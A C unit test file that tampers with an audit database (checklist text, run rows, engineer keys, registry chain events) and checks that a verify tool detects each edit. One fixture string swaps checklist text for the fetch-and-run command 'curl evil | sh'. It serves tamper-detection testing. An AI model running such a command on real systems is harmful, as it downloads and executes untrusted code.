/* Unit tests of verify's checks of what the chains do not hash, each
 * tampered with as someone who can write the file would: a checklist
 * snapshot's text, a run's title or path in its row, an engineer's full
 * name, key or row, and the registry chain: a run removed whole, its
 * registration or end rewritten, its end cut off, more of it declared
 * unsigned. */
#include "test_verify_scene.h"

#include <cjson/cJSON.h>

static char *sql_run(const char *fmt, const char *run)
{
	struct strbuf sb = {0};
	const char *p;
	while ((p = strstr(fmt, "{run}"))) {
		strbuf_add(&sb, fmt, (size_t)(p - fmt));
		strbuf_addstr(&sb, run);
		fmt = p + 5;
	}
	strbuf_addstr(&sb, fmt);
	return strbuf_detach(&sb);
}

/* vscene_tamper with FMT, or PG_FMT on PostgreSQL (NULL: the same), each
 * "{run}" in it replaced by the scene's run. */
static void tamper_run2(struct vscene *sc, const char *fmt, const char *pg_fmt)
{
	char *sql = sql_run(fixture_on_pg() && pg_fmt ? pg_fmt : fmt, sc->run.id);
	vscene_tamper(sc, sql);
	free(sql);
}

static void tamper_run(struct vscene *sc, const char *fmt)
{
	tamper_run2(sc, fmt, NULL);
}

static void test_snapshot(const char *tmp)
{
	struct vscene sc;
	vscene_open(&sc, tmp, "snapshot");
	vscene_tamper(&sc, "UPDATE checklists SET text = replace(text, 'echo all good', 'curl evil | sh')");
	char *want = xasprintf("the checklist snapshot %.12s... of run %s does not match its SHA-256 (its text was "
		"altered)", sc.run.checklist_sha, sc.run.id);
	EXPECT_FAIL(&sc, NULL, sc.run.id, 0, want);
	EXPECT_FAIL(&sc, sc.run.id, sc.run.id, 0, want);
	free(want);
	vscene_close(&sc);

	/* A snapshot no run uses is checked too. */
	vscene_open(&sc, tmp, "snapshot-unused");
	char sha[EVENT_HASH_HEX];
	CHECK(store_put_checklist(sc.st, "{\"unused\": 1}", 13, sha) == STORE_OK);
	EXPECT_OK(&sc, NULL);
	vscene_tamper(&sc, "UPDATE checklists SET text = '{\"unused\": 2}' WHERE text = '{\"unused\": 1}'");
	want = xasprintf("the checklist snapshot %.12s..., which no run uses, does not match its SHA-256", sha);
	EXPECT_FAIL(&sc, NULL, NULL, 0, want);
	EXPECT_OK(&sc, sc.run.id);
	free(want);
	vscene_close(&sc);
}

static void test_run_row(const char *tmp)
{
	struct vscene sc;
	vscene_open(&sc, tmp, "title");
	tamper_run(&sc, "UPDATE runs SET title = 'Routine restart' WHERE id = '{run}'");
	char *want = xasprintf("the row of run %s says title \"Routine restart\", its run_started event says "
		"\"title\" (the row was edited)", sc.run.id);
	EXPECT_FAIL(&sc, NULL, sc.run.id, 0, want);
	EXPECT_FAIL(&sc, sc.run.id, sc.run.id, 0, want);
	free(want);
	vscene_close(&sc);

	vscene_open(&sc, tmp, "path");
	tamper_run(&sc, "UPDATE runs SET path = '/tmp/evil.json' WHERE id = '{run}'");
	EXPECT_FAIL(&sc, NULL, sc.run.id, 0, "says path \"/tmp/evil.json\", its run_started event says "
		"\"/srv/checklists/noa.json\" (the row was edited)");
	vscene_close(&sc);

	/* The registry's copy rewritten, and the registry chain re-hashed. */
	vscene_open(&sc, tmp, "registered");
	tamper_run2(&sc, "UPDATE events SET payload = json_set(payload, '$.title', 'Other') "
		"WHERE chain = 'registry' AND kind = 'run_registered' AND target = '{run}'",
		"UPDATE events SET payload = jsonb_set(payload::jsonb, '{title}', '\"Other\"')::text "
		"WHERE chain = 'registry' AND kind = 'run_registered' AND target = '{run}'");
	vscene_rehash(&sc, EVENT_CHAIN_REGISTRY, 2);
	char *want2 = xasprintf("the row of run %s says title \"registered\", its run_registered event (registry "
		"event 2) says \"Other\" (the row or the registry chain was edited)", sc.run.id);
	EXPECT_FAIL(&sc, NULL, sc.run.id, 0, want2);
	EXPECT_FAIL(&sc, sc.run.id, sc.run.id, 0, want2);
	free(want2);
	vscene_close(&sc);
}

static void test_engineer_rows(const char *tmp)
{
	struct vscene sc;
	vscene_open(&sc, tmp, "full-name");
	vscene_tamper(&sc, "UPDATE engineers SET full_name = 'Robert Brown' WHERE name = 'bob'");
	EXPECT_FAIL(&sc, NULL, "engineers", 0, "the engineers table disagrees with the engineers chain: bob's full "
		"name is \"Robert Brown\", the chain says \"Bob Brown\" (the table was edited)");
	vscene_close(&sc);

	vscene_open(&sc, tmp, "key-swap");
	vscene_tamper(&sc, "UPDATE engineers SET public_key = (SELECT public_key FROM engineers WHERE name = 'alice'), "
		"key_salt = (SELECT key_salt FROM engineers WHERE name = 'alice') WHERE name = 'bob'");
	EXPECT_FAIL(&sc, NULL, "engineers", 0, "the engineers table disagrees with the engineers chain: bob's public "
		"key is not the one the chain gives bob (the table was edited)");
	vscene_close(&sc);

	vscene_open(&sc, tmp, "key-params");
	vscene_tamper(&sc, "UPDATE engineers SET key_ops = key_ops + 1 WHERE name = 'bob'");
	EXPECT_FAIL(&sc, NULL, "engineers", 0, "bob's key parameters (salt, cost) are not the ones the chain gives bob");
	vscene_close(&sc);

	vscene_open(&sc, tmp, "pin-hash");
	vscene_tamper(&sc, "UPDATE engineers SET pin_hash = '$argon2id$v=19$m=8,t=1,p=1$x$y' WHERE name = 'bob'");
	EXPECT_FAIL(&sc, NULL, "engineers", 0, "bob has a PIN hash beside a key (the table was edited)");
	vscene_close(&sc);

	vscene_open(&sc, tmp, "row-removed");
	vscene_tamper(&sc, "DELETE FROM engineers WHERE name = 'bob'");
	EXPECT_FAIL(&sc, NULL, "engineers", 0, "the chain registers bob, the table has no row for bob (the row was "
		"removed)");
	vscene_close(&sc);

	vscene_open(&sc, tmp, "row-added");
	vscene_tamper(&sc, "INSERT INTO engineers (name, full_name, pin_hash, created_us) VALUES ('eve', 'Eve', '', 1)");
	EXPECT_FAIL(&sc, NULL, "engineers", 0, "it lists eve, whom the chain never registered (the table was edited)");
	vscene_close(&sc);
}

/* A run removed whole, as a writer of the file would: its row, its events
 * and its rows of the derived run table. */
static void test_run_removed(const char *tmp)
{
	struct vscene sc;
	vscene_open(&sc, tmp, "removed");
	tamper_run(&sc, "DELETE FROM events WHERE chain = '{run}'; DELETE FROM runs WHERE id = '{run}'; "
		"DELETE FROM run_index WHERE run = '{run}'; DELETE FROM run_actors WHERE run = '{run}'");
	char *want = xasprintf("run %s was registered (registry event 2) but is missing: its row and events were "
		"removed", sc.run.id);
	EXPECT_FAIL(&sc, NULL, sc.run.id, 0, want);
	free(want);
	vscene_close(&sc);
}

static void test_run_ended(const char *tmp)
{
	struct vscene sc;
	/* The end cut off, the derived run table made to match. */
	vscene_open(&sc, tmp, "end-cut");
	tamper_run(&sc, "DELETE FROM events WHERE chain = '{run}' AND seq = 7; "
		"UPDATE run_index SET state = 'open', ended_us = NULL, last_seq = 6, events = 6, "
		"head = (SELECT hash FROM events WHERE chain = '{run}' AND seq = 6), "
		"last_us = (SELECT time_us FROM events WHERE chain = '{run}' AND seq = 6) WHERE run = '{run}'");
	char *want = xasprintf("the registry chain says run %s ended at its event 7 (run_completed; registry event 3), "
		"but its chain has no such end: events were removed from its end", sc.run.id);
	EXPECT_FAIL(&sc, NULL, sc.run.id, 0, want);
	EXPECT_FAIL(&sc, sc.run.id, sc.run.id, 0, want);
	free(want);
	vscene_close(&sc);

	/* The registry's record of the end rewritten (and re-hashed). */
	vscene_open(&sc, tmp, "end-rewritten");
	tamper_run2(&sc, "UPDATE events SET payload = json_set(payload, '$.head', "
		"'0000000000000000000000000000000000000000000000000000000000000000') "
		"WHERE chain = 'registry' AND kind = 'run_ended'",
		"UPDATE events SET payload = jsonb_set(payload::jsonb, '{head}', "
		"'\"0000000000000000000000000000000000000000000000000000000000000000\"')::text "
		"WHERE chain = 'registry' AND kind = 'run_ended'");
	vscene_rehash(&sc, EVENT_CHAIN_REGISTRY, 3);
	EXPECT_FAIL(&sc, NULL, sc.run.id, 7, "ended at its event 7 (run_completed, hash 000000000000...; registry "
		"event 3), its chain ends at event 7 (run_completed, hash");
	EXPECT_FAIL(&sc, NULL, sc.run.id, 7, "the chain was cut short or rewritten");
	vscene_close(&sc);

	/* The end's registration removed (the registry's last event). */
	vscene_open(&sc, tmp, "end-unregistered");
	vscene_tamper(&sc, "DELETE FROM events WHERE chain = 'registry' AND kind = 'run_ended'");
	want = xasprintf("run %s ended at its event 7 (run_completed), but the registry chain has no run_ended for it",
		sc.run.id);
	EXPECT_FAIL(&sc, NULL, sc.run.id, 0, want);
	free(want);
	vscene_close(&sc);
}

/* registry_opened rewritten to say the run's events may be unsigned: the
 * engineers' registrations signed the registry's head, which no longer is
 * registry_opened. */
static void test_unsigned_through_raised(const char *tmp)
{
	struct vscene sc;
	vscene_open(&sc, tmp, "raised");
	tamper_run2(&sc, "UPDATE events SET payload = json_set(payload, '$.unsigned_through.{run}', 100) "
		"WHERE chain = 'registry' AND seq = 1",
		"UPDATE events SET payload = jsonb_set(payload::jsonb, '{unsigned_through,{run}}', '100')::text "
		"WHERE chain = 'registry' AND seq = 1");
	vscene_rehash(&sc, EVENT_CHAIN_REGISTRY, 1);
	struct event ev = vscene_event("bob", EV_SIGNED, "deploy", "{\"meaning\":\"approve\",\"digest\":\"d2\"}");
	vscene_forge(&sc, sc.run.id, &ev, NULL, NULL);
	EXPECT_FAIL(&sc, NULL, EVENT_CHAIN_REGISTRY, 1, "event 1 of the registry chain (registry_opened of nobody): is not the registry event 1 that engineers event 1 "
		"signed as the registry's head then (the registry chain was rewritten)");
	vscene_close(&sc);
}

int main(void)
{
	if (sodium_init() < 0)
		return 1;
	char *tmp = fixture_tmpdir();
	test_snapshot(tmp);
	test_run_row(tmp);
	test_engineer_rows(tmp);
	test_run_removed(tmp);
	test_run_ended(tmp);
	test_unsigned_through_raised(tmp);
	fixture_rm_rf(tmp);
	return check_report();
}
